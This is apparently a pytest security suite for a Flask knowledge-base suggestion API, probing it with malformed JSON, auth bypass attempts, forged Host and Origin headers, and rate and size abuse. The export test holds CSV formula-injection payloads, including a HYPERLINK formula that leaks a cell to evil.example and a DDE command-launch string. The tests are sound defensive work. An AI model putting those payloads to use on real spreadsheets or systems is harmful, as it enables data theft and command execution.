"""The attacks of issue 11, through Flask's test client: hostile input, customer data, headers.

Each table row is one probe a hostile client tried; every one must get the documented
4xx in the one JSON error shape, never a 500, a traceback or a non-JSON body.
"""
import csv
import io
import json
import logging
import sqlite3

import pytest

from server import create_app
from storage.feedback import FeedbackEvent
from tests.helpers import TODAY, make_searcher, vote

TOKEN = "correct-horse-battery-staple"
NESTED = "[" * 30000 + "]" * 30000


@pytest.fixture
def admin_app(index_root, config, hash_embedder):
    config = config.replace(admin_token=TOKEN)
    return create_app(config, searcher=make_searcher(index_root, hash_embedder, config), today=lambda: TODAY)


def raw(client, path, data, **headers):
    return client.post(path, data=data, headers={"Content-Type": "application/json", **headers})


BAD_INPUT = [
    # (probe, path, raw body, status, code)
    ("lone surrogate in question", "/v1/suggest", '{"question": "\\ud800"}', 400, "invalid_request"),
    ("lone surrogate in product", "/v1/suggest", '{"question": "发货", "product": "a\\udfff"}', 400, "invalid_request"),
    ("lone surrogate in a filter", "/v1/suggest", '{"question": "发货", "filters": {"category": "\\ud83d"}}',
     400, "invalid_request"),
    ("lone surrogate in a batch", "/v1/suggest/batch", '{"questions": ["ok", "\\udc00"]}', 400, "invalid_request"),
    ("lone surrogate in a key", "/v1/suggest", '{"question": "发货", "\\ud800": 1}', 400, "invalid_request"),
    ("lone surrogate in feedback question", "/v1/feedback",
     '{"request_id": "r", "question": "\\ud800", "action": "gap"}', 400, "invalid_request"),
    ("lone surrogate in feedback article", "/v1/feedback",
     '{"request_id": "r", "action": "up", "article_id": "\\ud800"}', 400, "invalid_request"),
    ("30k nested arrays", "/v1/suggest", NESTED, 400, "invalid_request"),
    ("30k nested arrays in a field", "/v1/suggest", '{"question": "发货", "filters": ' + NESTED + "}",
     400, "invalid_request"),
    ("900 nested objects", "/v1/suggest", '{"a":' * 900 + "1" + "}" * 900, 400, "invalid_request"),
    ("weight Infinity", "/v1/suggest", '{"question": "发货", "weights": {"dense": Infinity}}', 400, "invalid_json"),
    ("weight NaN", "/v1/suggest", '{"question": "发货", "weights": {"bm25": NaN}}', 400, "invalid_json"),
    ("weight -Infinity", "/v1/suggest", '{"question": "发货", "weights": {"bm25": -Infinity}}', 400, "invalid_json"),
    ("weight 1e400 (overflows to inf)", "/v1/suggest", '{"question": "发货", "weights": {"dense": 1e400}}',
     400, "invalid_json"),
    ("weights 1e308 (sum overflows)", "/v1/suggest",
     '{"question": "发货", "fusion": "weighted", "weights": {"dense": 1e308, "bm25": 1e308, "questions": 1e308}}',
     400, "invalid_request"),
    ("huge integer weight", "/v1/suggest", '{"question": "发货", "weights": {"dense": ' + "9" * 400 + "}}",
     400, "invalid_request"),
    ("62 KB article_id", "/v1/feedback", json.dumps({"request_id": "r", "action": "up", "article_id": "a" * 62000}),
     400, "invalid_request"),
    ("long product", "/v1/suggest", json.dumps({"question": "发货", "product": "x" * 201}), 400, "invalid_request"),
    ("long category", "/v1/suggest", json.dumps({"question": "发货", "filters": {"category": "x" * 201}}),
     400, "invalid_request"),
    ("long index_version", "/v1/feedback",
     json.dumps({"request_id": "r", "action": "gap", "index_version": "v" * 101}), 400, "invalid_request"),
    ("long request_id", "/v1/feedback", json.dumps({"request_id": "r" * 65, "action": "gap"}), 400, "invalid_request"),
    ("UTF-8-encoded surrogate", "/v1/suggest", b'{"question": "\xed\xa0\x80"}', 400, "invalid_request"),
    ("invalid UTF-8", "/v1/suggest", b'{"question": "\xff\xfe"}', 400, "invalid_json"),
    ("empty body", "/v1/suggest", "", 400, "invalid_json"),
]


@pytest.mark.parametrize("probe, path, body, status, code", BAD_INPUT, ids=[row[0] for row in BAD_INPUT])
def test_bad_input_gets_a_json_4xx(client, probe, path, body, status, code):
    response = raw(client, path, body)
    assert response.status_code == status, response.data[:300]
    assert response.mimetype == "application/json"
    assert response.get_json()["error"]["code"] == code and response.get_json()["error"]["message"]


@pytest.mark.parametrize("length", ["-5", "abc", "1e3", "٣"])
def test_a_bad_content_length_is_a_json_400(client, length):
    response = client.post("/v1/suggest", data=b'{"question": "x"}', content_type="application/json",
                           environ_overrides={"CONTENT_LENGTH": length})
    assert response.status_code == 400 and response.get_json()["error"]["code"] == "bad_request"


def test_largest_allowed_weights_give_finite_json(client):
    body = {"question": "发货", "fusion": "weighted", "weights": {"dense": 100, "bm25": 100, "questions": 100}}
    response = client.post("/v1/suggest", json=body)
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "Infinity" not in text and "NaN" not in text
    json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} in the body"))


def test_a_non_finite_number_never_reaches_a_response(app, client, monkeypatch):
    searcher = app.extensions["kbs_holder"].searcher
    real = searcher.search

    def infinite(query, **kwargs):
        result = real(query, **kwargs)
        return result.__class__(**{**result.__dict__, "confidence": float("inf")})

    monkeypatch.setattr(searcher, "search", infinite)
    response = client.post("/v1/suggest", json={"question": "发货"})
    assert response.status_code == 500 and b"Infinity" not in response.data
    assert response.get_json()["error"]["code"] == "internal_error"


def test_a_client_error_logs_one_line_and_no_traceback(client, caplog):
    caplog.set_level(logging.INFO)
    for body in (NESTED, '{"question": "\\ud800"}', '{"question": "x", "weights": {"dense": Infinity}}'):
        assert raw(client, "/v1/suggest", body).status_code == 400
    records = [r for r in caplog.records if r.name.startswith("server")]
    assert len(records) == 3
    assert all(r.exc_info is None and "\n" not in r.getMessage() and r.levelno < logging.WARNING for r in records)


# ---------------------------------------------------------------- customer data


@pytest.mark.parametrize("headers, status, code", [
    ({}, 401, "unauthorized"),
    ({"Authorization": "Bearer wrong"}, 401, "unauthorized"),
    ({"Authorization": "Bearer " + TOKEN[:-1]}, 401, "unauthorized"),
    ({"Authorization": "Basic " + TOKEN}, 401, "unauthorized"),
    ({"Authorization": TOKEN}, 401, "unauthorized"),
    ({"Authorization": "Bearer " + TOKEN}, 200, None),
    ({"Authorization": "bearer  " + TOKEN + " "}, 200, None),
])
def test_export_needs_the_admin_token(admin_app, headers, status, code):
    response = admin_app.test_client().get("/v1/feedback/export", headers=headers)
    assert response.status_code == status
    if code:
        assert response.get_json()["error"]["code"] == code and "Bearer" in response.headers["WWW-Authenticate"]
    else:
        assert response.mimetype == "text/csv" and response.headers["Cache-Control"] == "no-store"


def test_without_a_token_admin_endpoints_are_disabled_not_open(client):
    for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer anything"}):
        response = client.get("/v1/feedback/export", headers=headers)
        assert response.status_code == 403 and response.get_json()["error"]["code"] == "admin_disabled"


def test_cors_never_applies_to_admin_endpoints(index_root, config, hash_embedder):
    config = config.replace(cors_origins="*", admin_token=TOKEN)
    client = create_app(config, searcher=make_searcher(index_root, hash_embedder, config)).test_client()
    origin = {"Origin": "https://evil.example"}
    assert client.post("/v1/suggest", json={"question": "发货"}, headers=origin) \
        .headers["Access-Control-Allow-Origin"] in ("*", "https://evil.example")
    export = client.get("/v1/feedback/export", headers={**origin, "Authorization": "Bearer " + TOKEN})
    assert export.status_code == 200 and "Access-Control-Allow-Origin" not in export.headers
    preflight = client.options("/v1/feedback/export", headers={
        **origin, "Access-Control-Request-Method": "GET", "Access-Control-Request-Headers": "Authorization"})
    assert not any(h.startswith("Access-Control-Allow") for h in preflight.headers.keys())


def test_export_neutralises_formula_cells_and_streams(admin_app):
    client = admin_app.test_client()
    attacks = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1", "正常的问题 =1+1"]
    for text in attacks:  # the stored question is the served answer's
        assert vote(client, text, "up").status_code == 201
    response = client.get("/v1/feedback/export", headers={"Authorization": "Bearer " + TOKEN})
    assert response.is_streamed
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["id", "at", "question", "article_id", "action", "index_version", "request_id", "client"]
    questions = [row[2] for row in rows[1:]]
    assert questions[:-1] == ["'" + text.strip() for text in attacks[:-1]]  # questions are stored stripped
    assert questions[-1] == "正常的问题 =1+1", "only a leading formula character is neutralised"


@pytest.mark.parametrize("cell, exported", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("1=1", "1=1"), ("", ""), (None, None), (42, 42)])
def test_csv_cell_neutralisation(cell, exported):
    from storage.export import csv_cell

    assert csv_cell(cell) == exported


def test_export_of_many_rows_comes_in_pieces(app):
    store = app.extensions["kbs_stores"].feedback
    with sqlite3.connect(store.db.path) as db:
        db.executemany("INSERT INTO feedback (at, question, article_id, action, index_version) "
                       "VALUES ('t', ?, 'a', 'up', NULL)", [(f"问题{i}",) for i in range(1200)])
    pieces = list(store.export_csv())
    assert len(pieces) >= 3, "a generator of batches, not one string"
    assert sum(piece.count("\n") for piece in pieces) == 1201


@pytest.mark.parametrize("sql", [
    "INSERT OR REPLACE INTO feedback (id, at, question, action) VALUES (1, 't', 'overwritten', 'gap')",
    "REPLACE INTO feedback (id, at, question, action) VALUES (1, 't', 'overwritten', 'gap')",
    "INSERT INTO feedback (id, at, question, action) VALUES (1, 't', 'overwritten', 'gap') "
    "ON CONFLICT(id) DO UPDATE SET question = excluded.question",
    "UPDATE feedback SET question = 'overwritten'",
    "DELETE FROM feedback",
])
def test_feedback_is_really_append_only(app, sql):
    store = app.extensions["kbs_stores"].feedback
    first = store.add(FeedbackEvent("原来的问题", "gap", None, None))
    assert first == 1
    with sqlite3.connect(store.db.path) as db, pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute(sql)
    assert [row[2] for row in store.rows()] == ["原来的问题"]
    assert store.add(FeedbackEvent("新问题", "gap", None, None)) == 2, "ordinary appends still work"


@pytest.mark.parametrize("host, status", [
    ("localhost", 200), ("127.0.0.1:8080", 200), ("[::1]:8080", 200), ("LOCALHOST:80", 200),
    ("evil.example", 400), ("evil.example:8080", 400), ("127.0.0.1.evil.example", 400), ("", 400),
])
def test_host_header_must_name_this_server(client, host, status):
    response = client.get("/v1/facets", headers={"Host": host})
    assert response.status_code == status
    if status == 400:
        assert response.get_json()["error"]["code"] == "host_not_allowed"


def test_allowed_hosts_is_a_setting(index_root, config, hash_embedder):
    config = config.replace(allowed_hosts="kb.shop.internal")
    client = create_app(config, searcher=make_searcher(index_root, hash_embedder, config)).test_client()
    assert client.get("/v1/facets", headers={"Host": "kb.shop.internal:8080"}).status_code == 200
    assert client.get("/v1/facets", headers={"Host": "127.0.0.1:8080"}).status_code == 200, "the bound address"
    assert client.get("/v1/facets", headers={"Host": "localhost"}).status_code == 400


@pytest.mark.parametrize("method, path", [("GET", "/"), ("GET", "/static/sidebar.js"), ("GET", "/v1/facets"),
                                          ("POST", "/v1/suggest"), ("GET", "/nowhere"), ("GET", "/readyz")])
def test_security_headers_on_every_response(client, method, path):
    response = client.open(path, method=method, json={"question": "发货"} if method == "POST" else None)
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Referrer-Policy"] == "no-referrer"


def test_sidebar_page_has_no_inline_script_or_handlers(client):
    import re

    page = client.get("/").get_data(as_text=True)
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page), "an inline <script> would need unsafe-inline"
    assert not re.search(r"\son[a-z]+\s*=", page, re.IGNORECASE), "inline event handlers"
    assert not re.search(r"\sstyle\s*=", page, re.IGNORECASE), "inline styles"


def test_article_html_drops_external_images(kb_copy, tmp_path, config, hash_embedder):
    from indexer.build import build

    (kb_copy / "pixel.md").write_text(
        "---\nid: pixel\ntitle: 像素\n---\n## A\n正文 ![p](https://tracker.example/p.gif)\n"
        '<img src="//tracker.example/q.gif"><img src=" HTTP://tracker.example/r.gif"><img src="img/ok.png">\n',
        encoding="utf-8")
    build(kb_copy, tmp_path / "index", hash_embedder, config)
    client = create_app(config, searcher=make_searcher(tmp_path / "index", hash_embedder, config)).test_client()
    html = client.get("/v1/articles/pixel").get_json()["html"]
    assert "tracker.example" not in html
    assert 'src="img/ok.png"' in html, "same-origin images stay"


# ---------------------------------------------------------------- denial of service


class SlowEmbedder:
    """The hash embedder, taking ``seconds`` per text and recording what it was asked to embed."""

    def __init__(self, seconds: float):
        from indexer.embed import HashEmbedder

        import threading

        self.inner, self.seconds, self.texts = HashEmbedder(), seconds, []
        self.id, self.dim = self.inner.id, self.inner.dim
        self.started = threading.Event()

    def embed(self, texts, mode):
        import time

        self.started.set()
        time.sleep(self.seconds * len(texts))
        self.texts.extend(texts)
        return self.inner.embed(texts, mode)


def test_the_embedder_sees_at_most_max_embed_chars(index_root, config):
    slow = SlowEmbedder(0)
    config = config.replace(max_embed_chars=40)
    client = create_app(config, searcher=make_searcher(index_root, slow, config)).test_client()
    story = "我上周在你们店里买了好几样东西，" * 60
    response = client.post("/v1/suggest", json={"question": story + "退款多久到账？" + "真的很着急。" * 60})
    assert response.status_code == 200
    assert response.get_json()["suggestions"][0]["article_id"] == "refund-time"
    assert max(len(t) for t in slow.texts) <= 40 and "退款多久到账？" in slow.texts[-1]


@pytest.mark.parametrize("text, limit, expected", [
    ("发货时间", 100, "发货时间"),  # short: untouched
    ("我昨天买了面霜，今天还没发货，什么时候发货？我等着用。", 20, "今天还没发货，什么时候发货？我等着用。"),
    ("我昨天买了面霜，今天还没发货，什么时候发货？我等着用。", 15, "今天还没发货，什么时候发货？"),
    ("x" * 500, 10, "x" * 10),  # nothing asks: the start
    ("a" * 50 + "吗", 10, "a" * 10),  # one asking clause longer than the budget
    ("开衫买小了。" * 40 + "能换大一号吗？", 30, "开衫买小了。开衫买小了。开衫买小了。能换大一号吗？"),
])
def test_asking_part(text, limit, expected):
    from retrieval.clauses import asking_part

    got = asking_part(text, limit)
    assert got == expected and len(got) <= limit


def test_asking_part_is_linear_on_hostile_text():
    import time

    from retrieval.clauses import asking_part

    started = time.perf_counter()
    for text in ("吗，" * 1000, "？" * 2000, "a，" * 1000, "what " * 400):
        assert len(asking_part(text, 100)) <= 100
    assert time.perf_counter() - started < 0.5


def test_the_shortest_waiting_text_is_embedded_first():
    import threading

    from retrieval import QueryEncoder

    slow = SlowEmbedder(0)
    started, release = threading.Event(), threading.Event()
    real_embed = slow.embed

    def gated(texts, mode):
        started.set()
        release.wait(10)
        return real_embed(texts, mode)

    slow.embed = gated
    encoder = QueryEncoder(slow, 16)
    texts = ["正在嵌入的第一条", "很长的问题" * 20, "中等长度的问题" * 3, "短问题"]
    threads = [threading.Thread(target=encoder.encode, args=(texts[0],))]
    threads[0].start()
    assert started.wait(10)  # the worker is busy with the first text; the others queue behind it
    for text in texts[1:]:
        threads.append(threading.Thread(target=encoder.encode, args=(text,)))
        threads[-1].start()
    import time

    deadline = time.monotonic() + 10
    while encoder.waiting() < 3 and time.monotonic() < deadline:
        time.sleep(0.001)
    release.set()
    for thread in threads:
        thread.join()
    assert slow.texts == [texts[0], "短问题", "中等长度的问题" * 3, "很长的问题" * 20]


def test_deadline_is_503_and_drops_the_waiting_work(index_root, config):
    import threading

    slow = SlowEmbedder(0.5)
    config = config.replace(deadline_s=0.2)
    searcher = make_searcher(index_root, slow, config)
    client = create_app(config, searcher=searcher).test_client()
    busy = threading.Thread(target=searcher.encoder.encode, args=("占住嵌入器的长文本" * 5,))
    busy.start()
    assert slow.started.wait(10)  # the embedder is busy for 0.5 s from now
    response = client.post("/v1/suggest", json={"question": "发货时间"})
    assert response.status_code == 503
    assert response.get_json()["error"]["code"] == "deadline_exceeded" and response.headers["Retry-After"] == "1"
    batch = client.post("/v1/suggest/batch", json={"questions": ["退款多久", "运费谁出"]})
    assert batch.status_code == 503 and batch.get_json()["error"]["code"] == "deadline_exceeded"
    busy.join()
    import time

    time.sleep(0.6)
    assert "发货时间" not in slow.texts and "退款多久" not in slow.texts, "a caller that gave up costs no work"


def test_batch_has_a_total_character_budget(client):
    response = client.post("/v1/suggest/batch", json={"questions": ["发" * 100] * 40})
    assert response.status_code == 200
    response = client.post("/v1/suggest/batch", json={"questions": ["发" * 100] * 40 + ["发"]})
    assert response.status_code == 413 and response.get_json()["error"]["code"] == "batch_too_large"
    assert "4001" in response.get_json()["error"]["message"]


def test_rate_limit_is_per_client_with_retry_after(index_root, config, hash_embedder):
    config = config.replace(rate_limit_kib_per_s=1.0, rate_limit_burst_kib=4.0)
    client = create_app(config, searcher=make_searcher(index_root, hash_embedder, config)).test_client()

    def ask(addr, question="发货"):
        return client.post("/v1/suggest", json={"question": question}, environ_base={"REMOTE_ADDR": addr})

    assert [ask("10.0.0.1").status_code for _ in range(4)] == [200] * 4  # 4 × the 1 KiB minimum
    limited = ask("10.0.0.1")
    assert limited.status_code == 429 and limited.get_json()["error"]["code"] == "rate_limited"
    assert int(limited.headers["Retry-After"]) >= 1
    assert ask("10.0.0.2").status_code == 200, "another client has its own bucket"
    big = client.post("/v1/feedback", json={"request_id": "r", "question": "发" * 2000, "action": "gap"},
                      environ_base={"REMOTE_ADDR": "10.0.0.3"})
    assert big.status_code == 404  # answered (no such request), and its size counted
    assert client.post("/v1/feedback", json={"request_id": "r", "action": "gap"},
                       environ_base={"REMOTE_ADDR": "10.0.0.3"}).status_code == 429, "a big body costs its size"
    assert client.get("/healthz", environ_base={"REMOTE_ADDR": "10.0.0.1"}).status_code == 200


def test_rate_limiter_refills_and_forgets():
    from server.limits import RateLimiter

    now = [0.0]
    limiter = RateLimiter(1024, 4096, clock=lambda: now[0])
    assert [limiter.take("a", 1024) for _ in range(4)] == [0.0] * 4
    assert limiter.take("a", 2048) == pytest.approx(2.0)
    now[0] += 2.0
    assert limiter.take("a", 2048) == 0.0
    assert limiter.take("b", 10**9) == 0.0, "a cost over the bucket is capped, so it can pass when full"


def test_rate_limit_can_be_switched_off(index_root, config, hash_embedder):
    config = config.replace(rate_limit_kib_per_s=0, rate_limit_burst_kib=1.0)
    client = create_app(config, searcher=make_searcher(index_root, hash_embedder, config)).test_client()
    assert {client.post("/v1/suggest", json={"question": "发货"}).status_code for _ in range(20)} == {200}


def test_a_short_question_does_not_wait_behind_a_long_text():
    import threading
    import time

    from retrieval import QueryEncoder

    main, quick = SlowEmbedder(0), SlowEmbedder(0)
    release = threading.Event()
    real_embed = main.embed
    main.embed = lambda texts, mode: (main.started.set(), release.wait(10), real_embed(texts, mode))[2]
    encoder = QueryEncoder(main, 16, quick=quick, quick_chars=10)
    long_one = threading.Thread(target=encoder.encode, args=("一条很长很长的客户消息" * 9,))
    long_one.start()
    assert main.started.wait(10)
    started = time.monotonic()
    encoder.encode("发货时间", deadline=time.monotonic() + 5)
    assert time.monotonic() - started < 1 and quick.texts == ["发货时间"]
    release.set()
    assert len(encoder.encode("x" * 11 + "长于快车道")) == main.dim
    long_one.join()
    assert main.texts == ["一条很长很长的客户消息" * 9, "x" * 11 + "长于快车道"], "longer texts take the main lane"
